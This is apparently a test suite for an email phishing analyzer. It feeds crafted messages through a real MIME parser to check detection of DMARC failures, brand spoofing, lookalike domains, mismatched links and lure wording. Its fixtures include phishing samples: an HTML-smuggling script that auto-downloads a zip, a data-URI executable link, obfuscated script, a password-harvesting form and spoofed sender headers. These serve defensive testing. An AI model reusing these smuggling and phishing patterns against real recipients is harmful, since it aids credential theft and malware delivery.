// analyzeEmail on messages crafted here, each built to show one trait, parsed by the real
// postal-mime parser.
import PostalMime from 'postal-mime';
import { Finding } from '../../../src/domain/finding';
import { ANALYZER_VERSION, analyzeEmail, inspectEmail } from '../../../src/analyzers/email';
import { extractAnchors, htmlDocumentSignals, linkMismatchSignals } from '../../../src/analyzers/email/html';
import { lureSignals } from '../../../src/analyzers/email/lures';
import { senderOf } from '../../../src/analyzers/email/addresses';
import { countTextWork } from '../../helpers/work';

function eml(headers: Record<string, string | string[]>, body: string, contentType = 'text/plain; charset=utf-8'): string {
  const lines = Object.entries(headers).flatMap(([k, v]) => (Array.isArray(v) ? v : [v]).map((x) => `${k}: ${x}`));
  return [...lines, 'MIME-Version: 1.0', `Content-Type: ${contentType}`, '', body].join('\r\n');
}

const base = { 'Message-ID': '<1@test>', Date: 'Mon, 5 Jan 2026 10:00:00 +0000', To: 'user@corp.example' };
const parse = (raw: string) => PostalMime.parse(raw);
const signalIds = async (raw: string) => inspectEmail(await parse(raw)).signals.map((s) => s.id);

describe('analyzeEmail: sender authentication', () => {
  it('turns a DMARC fail from the receiving server into a spoofing finding', async () => {
    const raw = eml(
      {
        ...base,
        'Authentication-Results':
          'mx.corp.example; spf=fail smtp.mailfrom=bank.example; dkim=none; dmarc=fail (p=reject) header.from=bank.example',
        From: 'Bank <alerts@bank.example>',
        Subject: 'Statement',
      },
      'Your statement is ready.',
    );
    const f = analyzeEmail(await parse(raw));
    expect(Finding.parse(f)).toEqual(f);
    expect(f.analyzer).toBe('email');
    expect(f.attack).toContain('T1672');
    expect(f.evidence).toEqual(
      expect.arrayContaining([
        'DMARC fail for bank.example: the From domain did not authenticate this message',
        'authentication (mx.corp.example): spf=fail dkim=none dmarc=fail',
      ]),
    );
    expect(f).toEqual(expect.objectContaining({ verdict: 'suspicious', score: 69 })); // 60 + 0.3 × 30
    expect(ANALYZER_VERSION).toMatch(/^\d+$/);
  });

  it('ignores a pass forged further down the headers', async () => {
    const raw = eml(
      {
        ...base,
        'Authentication-Results': [
          'mx.corp.example; dmarc=fail header.from=bank.example',
          'evil.example; dmarc=pass header.from=bank.example',
        ],
        From: 'alerts@bank.example',
        Subject: 'x',
      },
      'x',
    );
    const facts = inspectEmail(await parse(raw));
    expect(facts.auth.dmarc?.result).toBe('fail');
    expect(facts.auth.ignored).toBe(1);
  });

  it('scores nothing for a clean pass or for missing results', async () => {
    const pass = eml(
      {
        ...base,
        'Authentication-Results':
          'mx.corp.example; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org',
        From: 'Ann <ann@example.org>',
        Subject: 'Lunch',
      },
      'See you at noon.',
    );
    expect(analyzeEmail(await parse(pass))).toEqual(expect.objectContaining({ verdict: 'benign', score: 0 }));
    const none = eml({ ...base, From: 'Ann <ann@example.org>', Subject: 'Lunch' }, 'See you at noon.');
    expect(analyzeEmail(await parse(none))).toEqual(expect.objectContaining({ verdict: 'benign', score: 0 }));
  });
});

describe('analyzeEmail: sender identity', () => {
  it('flags a Reply-To on a free mailbox and a brand display name from an unrelated domain', async () => {
    const raw = eml(
      {
        ...base,
        From: '"PayPal Service" <service@billing-center.example>',
        'Reply-To': 'paypal.help.desk@gmail.com',
        Subject: 'Account limited',
      },
      'Please reply.',
    );
    const ids = await signalIds(raw);
    expect(ids).toEqual(expect.arrayContaining(['display-name-brand', 'reply-to-freemail']));
    expect(analyzeEmail(await parse(raw)).verdict).not.toBe('benign');
  });

  it('flags a display name that shows another address, harder when it is a brand address', async () => {
    const raw = eml({ ...base, From: '"security@paypal.com" <noreply@secure-mail.example>', Subject: 'x' }, 'x');
    const f = inspectEmail(await parse(raw)).signals.find((s) => s.id === 'display-name-address');
    expect(f).toEqual(expect.objectContaining({ score: 60 }));
    expect(f?.what).toContain('security@paypal.com (PayPal)');
  });

  it('reads the real address behind a comma-split From and counts the names', () => {
    const s = senderOf('Amazon Prime, jehd <service@stayfriends.de>');
    expect(s).toEqual(expect.objectContaining({ address: 'service@stayfriends.de', registrable: 'stayfriends.de', mailboxes: 2 }));
    expect(s.displayName).toBe('Amazon Prime jehd');
  });

  it('flags a lookalike sender domain and invisible characters in the name', async () => {
    const raw = eml({ ...base, From: '=?UTF-8?B?TWljcm9zb2Z0IPOghLlTdXBwb3J0?= <it@rnicrosoft-support.com>', Subject: 'x' }, 'x');
    const ids = await signalIds(raw);
    expect(ids).toEqual(expect.arrayContaining(['from-lookalike-combosquat', 'display-name-invisible', 'display-name-brand']));
  });

  it('does not hold a mailing list to the sender-domain rule, nor a brand writing as itself', async () => {
    const list = eml(
      {
        ...base,
        From: 'Ann <ann@example.org>',
        'Reply-To': 'devs@lists.example.net',
        'List-Id': '<devs.lists.example.net>',
        'Return-Path': '<devs-bounces@lists.example.net>',
        Subject: 'patch',
      },
      'x',
    );
    expect(await signalIds(list)).toEqual([]);
    const brand = eml(
      { ...base, From: 'PayPal <service@paypal.com>', 'Return-Path': '<bounce@paypal.com>', Subject: 'Receipt' },
      'Thanks.',
    );
    expect(await signalIds(brand)).toEqual([]);
  });
});

describe('analyzeEmail: links and HTML', () => {
  it('finds anchors whose text names another site than the target', () => {
    const html =
      '<p>Log in at <a href="http://paypal.account-check.example/login">https://www.paypal.com/signin</a> or <A HREF=\'https://docs.example.org/x\'><b>docs.example.org</b></A>' +
      ' or <a href="https://clicks.mailer.example/r?u=https%3A%2F%2Fwww.shop.example%2F">www.shop.example</a> <a name="x">no href</a></p>';
    const anchors = extractAnchors(html);
    expect(anchors).toEqual([
      { href: 'http://paypal.account-check.example/login', text: 'https://www.paypal.com/signin' },
      { href: 'https://docs.example.org/x', text: 'docs.example.org' },
      { href: 'https://clicks.mailer.example/r?u=https%3A%2F%2Fwww.shop.example%2F', text: 'www.shop.example' },
    ]);
    const signals = linkMismatchSignals(anchors);
    expect(signals.map((s) => [s.id, s.score])).toEqual([
      ['link-text-brand-mismatch', 60],
      ['link-text-mismatch', 5],
    ]);
    expect(signals[0].what).toBe("link shows PayPal's www.paypal.com but opens paypal.account-check.example");
  });

  it('recognizes HTML smuggling, obfuscated pages, password forms and auto-redirects', () => {
    const payload = 'UEsDBBQ'.padEnd(3000, 'A');
    const smuggle =
      `<html><body><script>var d=atob("${payload}");var b=new Blob([d],{type:"application/zip"});` +
      'if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(b,"invoice.zip")}else{var a=document.createElement("a");' +
      'a.href=URL.createObjectURL(b);a.download="invoice.zip";a.click()}</script></body></html>';
    expect(htmlDocumentSignals(smuggle, 'attachment a.html', true).map((s) => s.id)).toEqual(['html-smuggling']);
    const dataLink = '<a href="data:application/octet-stream;base64,TVqQAAMAAAAEAAAA" download="setup.exe">Download</a>';
    expect(htmlDocumentSignals(dataLink, 'body', false).map((s) => s.id)).toEqual(['html-smuggling']);
    const obfuscated = `<script>document.write(unescape('${'%3C%64%69%76%3E'.repeat(100)}'))</script>`;
    expect(htmlDocumentSignals(obfuscated, 'a.htm', true).map((s) => s.id)).toEqual(['html-obfuscated-script']);
    const form =
      '<form action="https://collect.example/p.php" method="post"><input type="email" name="u"><input name="p" type=password></form>';
    expect(htmlDocumentSignals(form, 'a.html', true).map((s) => [s.id, s.score])).toEqual([['html-password-form', 65]]);
    const click = '<body onload="document.getElementById(\'1\').click();"><a id="1" href="https://x.example">go</a></body>';
    expect(htmlDocumentSignals(click, 'a.html', true).map((s) => s.id)).toEqual(['html-auto-redirect']);
    expect(htmlDocumentSignals('<p>Hello <img src="data:image/png;base64,' + 'A'.repeat(5000) + '"></p>', 'body', false)).toEqual([]);
  });

  it('lists attachments, flags double extensions and reads HTML attachments', async () => {
    const boundary = 'b1';
    const pageHtml = '<html><form><input type="password" name="pw"></form></html>';
    const page = Buffer.from(pageHtml).toString('base64');
    const raw = [
      'From: Billing <billing@vendor.example>',
      'To: user@corp.example',
      'Subject: Invoice overdue',
      'MIME-Version: 1.0',
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      '',
      `--${boundary}`,
      'Content-Type: text/plain',
      '',
      'Please see the invoice attached, payment is overdue.',
      `--${boundary}`,
      'Content-Type: text/html; name="Invoice.pdf.html"',
      'Content-Disposition: attachment; filename="Invoice.pdf.html"',
      'Content-Transfer-Encoding: base64',
      '',
      page,
      `--${boundary}`,
      'Content-Type: application/pdf; name="terms.pdf"',
      'Content-Disposition: attachment; filename="terms.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      'JVBERi0xLjQK',
      `--${boundary}--`,
      '',
    ].join('\r\n');
    const f = analyzeEmail(await parse(raw));
    const facts = inspectEmail(await parse(raw));
    expect(facts.attachments).toEqual([
      { name: 'Invoice.pdf.html', mimeType: 'text/html', size: pageHtml.length },
      { name: 'terms.pdf', mimeType: 'application/pdf', size: 9 },
    ]);
    expect(facts.signals.map((s) => s.id)).toEqual(
      expect.arrayContaining(['double-extension', 'html-attachment', 'html-password-form', 'lure-wording']),
    );
    expect(f.verdict).toBe('malicious');
    expect(f.evidence.at(-1)).toBe(
      `attachments (for the file analyzers): Invoice.pdf.html [text/html, ${pageHtml.length} B], terms.pdf [application/pdf, 9 B]`,
    );
  });
});

describe('lure wording', () => {
  it('scores a few themes modestly, in several languages', () => {
    expect(
      lureSignals('Action required: verify your account', 'Your account has been suspended. Pay the overdue invoice within 24 hours.')[0],
    ).toEqual(
      expect.objectContaining({
        score: 20,
        what: 'lure wording: urgency or deadline; account suspension or verification; invoice, payment or refund',
      }),
    );
    expect(lureSignals('Ihr Konto wurde gesperrt', '')[0].what).toBe('lure wording: account suspension or verification');
    expect(lureSignals('Votre colis', 'Livraison en attente')[0].what).toBe('lure wording: parcel delivery problem');
    expect(lureSignals('Sua senha expira', 'Pagamento pendente')[0].what).toBe(
      'lure wording: account suspension or verification; invoice, payment or refund',
    );
    expect(lureSignals('Minutes of Tuesday', 'Attached are the notes from the design review.')).toEqual([]);
  });
});

describe('analyzeEmail: malformed input', () => {
  it('returns an error finding for something that is not a parsed message', () => {
    const f = analyzeEmail({} as PostalMime.Email);
    expect(f).toEqual(expect.objectContaining({ verdict: 'unknown', score: 0, error: 'not a parsed email: headers missing' }));
    expect(analyzeEmail(null as unknown as PostalMime.Email).error).toBeDefined();
  });

  it('stays bounded on a hostile HTML body', async () => {
    const html = `<a href="x">${'<a '.repeat(100_000)}${'download='.repeat(50_000)}<body onload="${"'".repeat(50_000)}`;
    const raw = eml({ ...base, From: 'x@y.example', Subject: 's' }, html, 'text/html; charset=utf-8');
    const parsed = await parse(raw);
    const { value: f, work } = await countTextWork(() => analyzeEmail(parsed));
    expect(f.error).toBeUndefined();
    // A bounded number of passes over the body, not one per tag or attribute.
    expect(work.execs).toBeLessThan(100_000);
    expect(work.charsScanned + work.indexOfChars).toBeLessThan(20 * html.length);
  });
});

// Service notifications from the organisation's own mail system and from genuine SaaS: the
// facts that tell them apart are Exchange's header firewall and the sender's real domain, never
// the display name or the wording. Each has its impersonating twin.
describe('analyzeEmail: system and service notifications', () => {
  const ndr = (from: string, authAs?: string) =>
    eml(
      {
        ...base,
        From: from,
        To: 'Nina <nina@corp.example>',
        Subject: 'Undeliverable: RE: PO 88231',
        'Auto-Submitted': 'auto-replied',
        ...(authAs ? { 'X-MS-Exchange-Organization-AuthAs': authAs } : {}),
      },
      "Your message to orders@supplier.example couldn't be delivered.",
    );

  it("an Exchange NDR from the tenant's own system mailbox, authenticated as internal, is not brand impersonation", async () => {
    expect(
      await signalIds(ndr('Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example>', 'Internal')),
    ).not.toContain('display-name-brand');
  });

  it.each([
    [
      'the same mail arriving from outside (AuthAs Anonymous)',
      ndr('Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example>', 'Anonymous'),
    ],
    [
      'the same mail without the header firewall stamp',
      ndr('Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example>'),
    ],
    ['an internal mailbox that is not the system mailbox', ndr('Microsoft Outlook <it-helpdesk@corp.example>', 'Internal')],
    [
      'a stamp repeated (one from the sender, one from Exchange)',
      ndr('Microsoft Outlook <MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@corp.example>', 'Internal').replace(
        'X-MS-Exchange-Organization-AuthAs: Internal',
        'X-MS-Exchange-Organization-AuthAs: Internal\r\nX-MS-Exchange-Organization-AuthAs: Anonymous',
      ),
    ],
  ])('twin: %s still claims a brand it is not', async (_, raw) => {
    expect(await signalIds(raw)).toContain('display-name-brand');
  });

  const share = (from: string, replyTo: string) =>
    eml(
      {
        ...base,
        From: from,
        'Reply-To': replyTo,
        To: 'Sam <sam@corp.example>',
        Subject: 'Marcus shared "Network diagram v3" with you',
      },
      'Marcus shared a file with you: https://corptenant.sharepoint.com/:b:/s/it/EabC',
    );

  it("SharePoint Online's sharing notification: Microsoft's own domain, replies to the colleague who shared", async () => {
    const ids = await signalIds(share('Marcus Bell <no-reply@sharepointonline.com>', 'Marcus Bell <marcus@corp.example>'));
    expect(ids).not.toEqual(expect.arrayContaining(['from-lookalike-combosquat']));
    expect(ids).not.toContain('reply-to-mismatch');
  });

  it('twin: a look-alike of the notification domain, and replies sent to a third organisation, are still flagged', async () => {
    expect(await signalIds(share('Marcus Bell <no-reply@sharepointonline-share.example>', 'Marcus Bell <marcus@corp.example>'))).toContain(
      'from-lookalike-combosquat',
    );
    expect(await signalIds(share('Marcus Bell <no-reply@sharepointonline.com>', 'Marcus Bell <marcus@payments.example>'))).toContain(
      'reply-to-mismatch',
    );
  });
});
